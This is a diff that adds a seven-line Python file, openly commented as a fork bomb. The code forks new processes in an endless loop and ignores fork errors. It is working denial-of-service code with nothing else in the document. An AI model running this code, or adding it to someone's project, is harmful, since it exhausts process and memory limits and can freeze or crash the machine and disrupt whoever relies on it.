@@ -1,0 +1,7 @@
+# Python fork bomb.
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
